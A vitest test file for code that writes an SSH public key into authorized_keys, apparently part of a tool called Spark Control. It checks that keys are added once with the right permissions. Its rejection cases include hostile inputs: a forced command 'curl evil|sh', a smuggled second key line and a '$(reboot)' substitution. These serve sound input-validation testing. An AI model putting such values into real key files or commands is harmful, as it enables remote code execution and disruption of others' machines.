import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, statSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { authorizeKeyCommand, commandText, openSshPublicKey } from '../../core/src/api/index.js';
import { generateUsableKeyPair } from '../../core/src/services/ssh/keyPair.js';

// The one command that writes a key into a Spark's authorized_keys (Spark Control's own key, the head's key for Link
// Sparks), run with real bash in a temporary home.
const run = (home: string, cmd: ReturnType<typeof authorizeKeyCommand>) =>
  spawnSync('bash', ['-c', commandText(cmd)], { encoding: 'utf8', env: { PATH: '/usr/bin:/bin', HOME: home } });

describe('authorized_keys', () => {
  const key = generateUsableKeyPair('head@spark-1').public.trim();

  it('adds a key once, with the permissions sshd insists on, and says present the second time', () => {
    const home = mkdtempSync(join(tmpdir(), 'authkeys-'));
    expect(run(home, authorizeKeyCommand(key)).stdout.trim()).toBe('added');
    expect(run(home, authorizeKeyCommand(key)).stdout.trim()).toBe('present');
    const file = join(home, '.ssh/authorized_keys');
    expect(readFileSync(file, 'utf8')).toBe(`${key}\n`);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(statSync(join(home, '.ssh')).mode & 0o777).toBe(0o700);
  });

  it('keeps the lines already there', () => {
    const home = mkdtempSync(join(tmpdir(), 'authkeys-'));
    mkdirSync(join(home, '.ssh'));
    const other = generateUsableKeyPair('laptop').public.trim();
    writeFileSync(join(home, '.ssh/authorized_keys'), `${other}\n`);
    run(home, authorizeKeyCommand(key));
    expect(readFileSync(join(home, '.ssh/authorized_keys'), 'utf8')).toBe(`${other}\n${key}\n`);
  });

  it.each([
    ['options in front (a forced command)', `command="curl evil|sh" ${key}`],
    ['a second line', `${key}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeFakeFakeFakeFakeFakeFakeFakeFakeFake x`],
    ['an unknown type', key.replace('ssh-ed25519', 'ssh-dss')],
    ['a blob that is not base64', 'ssh-ed25519 AAAA$(reboot)AAAAAAAAAAAAAAAAAAAA'],
    ['a control character in the comment', `${key}\u0007`],
    ['nothing', ''],
  ])('refuses %s before anything is sent', (_what, line) => {
    expect(() => openSshPublicKey(line)).toThrow(TypeError);
    expect(() => authorizeKeyCommand(line)).toThrow(TypeError);
  });
});
